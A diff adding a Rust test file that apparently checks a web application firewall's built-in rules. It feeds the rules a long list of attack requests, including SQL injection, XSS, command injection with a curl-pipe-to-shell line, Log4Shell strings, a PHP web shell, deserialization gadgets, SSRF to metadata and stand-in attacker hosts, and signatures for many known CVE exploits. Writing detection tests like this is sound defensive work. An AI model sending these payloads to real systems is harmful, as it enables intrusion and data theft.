@@ -1,0 +1,233 @@
+//! What the built-in rules find, rule by rule.
+
+use crate::send::{FORM, Sent, run, view};
+
+fn get(target: &str) -> Sent {
+    Sent::get(target)
+}
+
+fn header(name: &str, value: &str) -> Sent {
+    Sent::get("/").with(name, value)
+}
+
+fn value(text: &str) -> Sent {
+    Sent::query("/page", &[("x", text.as_bytes())])
+}
+
+fn json(target: &str, body: &str) -> Sent {
+    Sent::post(target, "application/json", body)
+}
+
+fn method(method: &'static str, target: &str) -> Sent {
+    Sent { method, ..Sent::get(target) }
+}
+
+fn check(cases: Vec<(Sent, u64)>) {
+    let view = view(&crate::builtin(), &[]);
+    let mut passing = Vec::new();
+    for (sent, id) in cases {
+        let outcome = run(&view, &sent);
+        if !outcome.ids.contains(&id) || outcome.denied.is_none() {
+            let target = String::from_utf8_lossy(&sent.target).into_owned();
+            passing.push(format!("{id}: {target} {:?}: {outcome:?}", sent.headers.last()));
+        }
+    }
+    assert!(passing.is_empty(), "{}", passing.join("\n"));
+}
+
+#[test]
+fn kinds_of_attacks_are_found() {
+    check(vec![
+        (method("TRACE", "/"), 1_001_001),
+        (header("Content-Length", "+5"), 1_001_002),
+        (header("Transfer-Encoding", "xchunked"), 1_001_003),
+        (get("/a%0d%0aX-B:%20c"), 1_001_010),
+        (get("/public/..;/admin"), 1_001_011),
+        (get("/secure/..%2fadmin"), 1_001_011),
+        (get("/login;..%5cadmin"), 1_001_012),
+        (value("a\r\nSet-Cookie: x=y"), 1_001_020),
+        (value("a\r\nGET /admin HTTP/1.1"), 1_001_021),
+        (value("a\0b"), 1_001_022),
+        (header("User-Agent", "sqlmap/1.7#stable"), 1_001_501),
+        (header("User-Agent", "Mozilla/5.0 (Nikto/2.5.0)"), 1_001_501),
+        (header("X-Wvs-Id", "1"), 1_001_502),
+        (value("http://c59h2.oast.fun"), 1_001_503),
+        (value("../../../etc/passwd"), 1_002_001),
+        (value("/etc/shadow"), 1_002_010),
+        (value("C:\\Windows\\win.ini"), 1_002_012),
+        (value("/proc/self/environ"), 1_002_013),
+        (get("/.git/config"), 1_002_015),
+        (get("/backup/db.sql.gz"), 1_002_015),
+        (value("1' or '1'='1"), 1_003_001),
+        (value("1 union/**/select 1,2,3"), 1_003_003),
+        (value("<script>alert(1)</script>"), 1_003_501),
+        (value("\"><img src=x onerror=alert(1)>"), 1_003_505),
+        (value("1;cat /etc/hosts"), 1_004_002),
+        (value("|whoami"), 1_004_012),
+        (value("$(curl -s http://x/a|sh)"), 1_004_003),
+        (value("powershell -enc SQBFAFgA"), 1_004_008),
+        (value("<!--#exec cmd=\"id\"-->"), 1_004_009),
+        (value("${jndi:ldap://x/a}"), 1_005_003),
+        (header("X-Api-Version", "${${::-j}${::-n}di:ldap://x/a}"), 1_005_002),
+        (value("<?php system($_GET['c']); ?>"), 1_005_010),
+        (value("O:8:\"Evil\\Gun\":1:{s:1:\"a\";i:1;}"), 1_005_013),
+        (value("php://filter/read=convert.base64-encode/resource=x"), 1_005_014),
+        (value("(#a=@java.lang.Runtime@getRuntime().exec('id'))"), 1_005_020),
+        (value("rO0ABXNyABFqYXZhLnV0aWwuSGFzaA=="), 1_005_021),
+        (value("AAEAAAD/////AQAAAAAAAAAMAgAAAF"), 1_005_022),
+        (value("!!python/object/apply:os.system ['id']"), 1_005_023),
+        (value("require('child_process').exec('id')"), 1_005_030),
+        (Sent::query("/", &[("__proto__[admin]", b"1")]), 1_005_031),
+        (json("/", r#"{"__proto__":{"admin":true}}"#), 1_005_032),
+        (value("{{7*7}}"), 1_005_040),
+        (value("{{''.__class__.__mro__[1].__subclasses__()}}"), 1_005_041),
+        (value("__import__('os').system('id')"), 1_005_043),
+        (value("*)(uid=*))(|(uid=*"), 1_006_001),
+        (value("' or count(parent::*)=1 or 'a'='b"), 1_006_002),
+        (Sent::query("/", &[("user[$ne]", b"1")]), 1_006_003),
+        (json("/", r#"{"user":{"$gt":""}}"#), 1_006_003),
+        (value("{\"$where\": \"sleep(100)\"}"), 1_006_004),
+        (
+            Sent::post(
+                "/",
+                "text/xml",
+                "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
+            ),
+            1_006_010,
+        ),
+        (value("http://169.254.169.254/latest/meta-data/"), 1_007_001),
+        (value("gopher://127.0.0.1:6379/_x"), 1_007_002),
+        (value("http://localhost:6379/"), 1_007_003),
+        (value("http://2130706433/"), 1_007_004),
+        (value("http://evil.example/shell.txt?"), 1_007_010),
+        (value("http://198.51.100.7/x.sh"), 1_007_012),
+        (get("/?PHPSESSID=abc").with("Referer", "https://evil.example/"), 1_007_021),
+    ]);
+}
+
+#[test]
+fn links_within_a_site_may_carry_a_session() {
+    let view = view(&crate::builtin(), &[]);
+    let within = get("/?PHPSESSID=abc").with("Referer", "https://www.example.com/cart");
+    assert_eq!(run(&view, &within).denied, None);
+}
+
+#[test]
+fn known_exploits_are_found() {
+    let exploit = |number: u64| 1_008_000 + number;
+    let by_message = |needle: &str| {
+        let rules = crate::builtin();
+        let found = rules.rules.iter().find(|rule| {
+            rule.message_text().is_some_and(|text| text.contains(needle)) && rule.id > exploit(0)
+        });
+        found.unwrap_or_else(|| panic!("no rule says {needle}")).id
+    };
+    let cases = [
+        ("Shellshock", header("User-Agent", "() { :;}; /bin/cat /etc/passwd")),
+        (
+            "Struts: expression in Content-Type",
+            header("Content-Type", "%{(#_='multipart/form-data').(#x=1)}"),
+        ),
+        ("Struts: expression in the path", get("/struts/$%7B(111+111)%7D/actionChain.action")),
+        (
+            "Spring4Shell",
+            Sent::post(
+                "/",
+                FORM,
+                "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
+            ),
+        ),
+        (
+            "Spring Cloud Function",
+            header("spring.cloud.function.routing-expression", "T(java.lang.Runtime)"),
+        ),
+        ("Spring Cloud Gateway", get("/actuator/gateway/routes/x")),
+        (
+            "ProxyShell",
+            get(
+                "/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.com",
+            ),
+        ),
+        ("ProxyLogon", header("Cookie", "X-BEResource=a/b?~1942062522")),
+        ("Citrix ADC: traversal", get("/vpn/../vpns/cfg/smb.conf")),
+        (
+            "F5 BIG-IP: traversal",
+            get("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
+        ),
+        ("F5 BIG-IP: iControl REST without", json("/mgmt/tm/util/bash", "{}")),
+        ("Confluence: expression", get("/%24%7B%28%23a%3D%40org.apache%40x%28%29%29%7D/")),
+        (
+            "Confluence: set-up",
+            get(
+                "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false",
+            ),
+        ),
+        ("Confluence: template", get("/template/aui/text-inline.vm")),
+        ("vBulletin: widget", get("/index.php?routestring=ajax/render/widget_php")),
+        ("PHP-CGI", get("/index.php?-d+allow_url_include%3d1")),
+        ("PHP-CGI", get("/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0")),
+        ("PHPUnit", get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")),
+        (
+            "ThinkPHP",
+            get(
+                "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
+            ),
+        ),
+        ("Laravel", json("/_ignition/execute-solution", "{}")),
+        ("Drupalgeddon 2", Sent::query("/user/register", &[("mail[#post_render][]", b"exec")])),
+        ("MOVEit", Sent::get("/moveitisapi/moveitisapi.dll?action=m2")),
+        ("GoAnywhere MFT: first", get("/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml")),
+        ("GoAnywhere MFT", get("/goanywhere/lic/accept")),
+        (
+            "Ivanti Connect Secure: traversal",
+            get("/api/v1/totp/user-backup-code/../../license/keys-status/x"),
+        ),
+        (
+            "Pulse Secure",
+            get(
+                "/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd?/dana/html5acc/guacamole/",
+            ),
+        ),
+        (
+            "FortiOS: file read",
+            get("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
+        ),
+        ("FortiOS: API", get("/api/v2/cmdb/system/admin").with("User-Agent", "Report Runner")),
+        ("Apache httpd", get("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd")),
+        ("Apache httpd", get("/icons/%%32%65%%32%65/%%32%65%%32%65/etc/passwd")),
+        ("Tomcat", method("PUT", "/shell.jsp/")),
+        ("WebLogic: console", get("/console/css/%252e%252e%252fconsole.portal")),
+        ("WebLogic: asynchronous", get("/wls-wsat/CoordinatorPortType")),
+        ("JBoss", get("/invoker/readonly")),
+        (
+            "Solr: template",
+            get("/solr/x/select?q=1&wt=velocity&v.template=custom&v.template.custom=a"),
+        ),
+        ("Jenkins: command line", get("/cli?remoting=false").with("Side", "download")),
+        ("TeamCity: token", get("/app/rest/users/id:1/tokens/RPC2")),
+        ("TeamCity: log-in", get("/hax?jsp=/app/rest/server;.jsp")),
+        ("vCenter: upload", get("/ui/vropspluginui/rest/services/uploadova")),
+        (
+            "Workspace ONE",
+            get("/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22x%22%7d"),
+        ),
+        ("ScreenConnect", get("/SetupWizard.aspx/x")),
+        ("PAN-OS: GlobalProtect", header("Cookie", "SESSID=/../../../opt/panlogs/x")),
+        ("Check Point", Sent::post("/clients/MyCRL", "text/plain", "aCSHELL/../../../etc/shadow")),
+        ("Cisco IOS XE", get("/%2577eb%2575i_%2577sma_Http")),
+        (
+            "Cisco ASA",
+            get("/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua"),
+        ),
+        ("Hikvision", Sent { method: "PUT", ..Sent::post("/SDK/webLanguage", "text/plain", "x") }),
+        ("TP-Link", get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)")),
+        ("Grafana", get("/public/plugins/alertlist/../../../../etc/passwd")),
+        (
+            "WordPress: File Manager",
+            get("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"),
+        ),
+        ("Control Web Panel", get("/login/index.php?login=$(echo${IFS}x)")),
+        ("Joomla: object", header("User-Agent", "}__test|O:21:\"JDatabaseDriverMysqli\":3:{")),
+    ];
+    check(cases.into_iter().map(|(message, sent)| (sent, by_message(message))).collect());
+}
